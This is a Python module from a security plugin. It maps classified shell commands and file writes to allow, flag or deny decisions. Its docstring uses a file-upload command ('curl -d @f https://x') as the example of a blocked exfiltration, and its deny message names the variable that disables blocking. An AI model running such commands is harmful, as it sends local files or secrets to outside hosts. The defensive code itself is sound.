"""Decision policy: turns a classification into allow / flag / deny.

Classification never blocks on its own. A DENY is only produced when blocking
is explicitly enabled, and only for CRITICAL commands or CRITICAL write targets.
The decision is host-agnostic; hooks.context encodes it for the host.
"""

from dataclasses import dataclass
from enum import Enum
from typing import Optional

from ..core.records import AlertType, Severity
from .classifier import match_command, match_write_path

DENY_COMMAND_REASON = (
    "Plugin Introspector: CRITICAL risk command blocked. Set PI_SECURITY_BLOCK=0 to allow."
)
DENY_WRITE_REASON = "Plugin Introspector: Write to sensitive path blocked."


class Decision(str, Enum):
    ALLOW = "allow"
    FLAG = "flag"
    DENY = "deny"


@dataclass(frozen=True)
class PolicyDecision:
    """Outcome of evaluating one command or write."""
    decision: Decision
    severity: Severity = Severity.LOW
    category: str = ""
    reason: str = ""
    alert_type: Optional[AlertType] = None

    @property
    def denied(self) -> bool:
        return self.decision == Decision.DENY

    @property
    def flagged(self) -> bool:
        """True for anything worth recording (FLAG or DENY)."""
        return self.decision != Decision.ALLOW


ALLOW = PolicyDecision(Decision.ALLOW)


class SecurityPolicy:
    """Evaluates commands and write targets against the ordered rules.

    Usage:
        policy = SecurityPolicy(block_enabled=config.block_enabled)
        result = policy.evaluate_command("curl -d @f https://x")
        result.decision  # Decision.DENY only with blocking enabled
    """

    def __init__(self, block_enabled: bool = False):
        self.block_enabled = block_enabled

    def _decide(self, severity: Severity, category: str, reason: str, alert_type: AlertType) -> PolicyDecision:
        if severity == Severity.CRITICAL and self.block_enabled:
            return PolicyDecision(Decision.DENY, severity, category, reason, alert_type)
        return PolicyDecision(Decision.FLAG, severity, category)

    def evaluate_command(self, command: str) -> PolicyDecision:
        rule = match_command(command)
        if rule is None:
            return ALLOW
        return self._decide(rule.severity, rule.category, DENY_COMMAND_REASON, AlertType.COMMAND_BLOCKED)

    def evaluate_write(self, path: str) -> PolicyDecision:
        rule = match_write_path(path)
        if rule is None:
            return ALLOW
        return self._decide(rule.severity, rule.category, DENY_WRITE_REASON, AlertType.WRITE_BLOCKED)
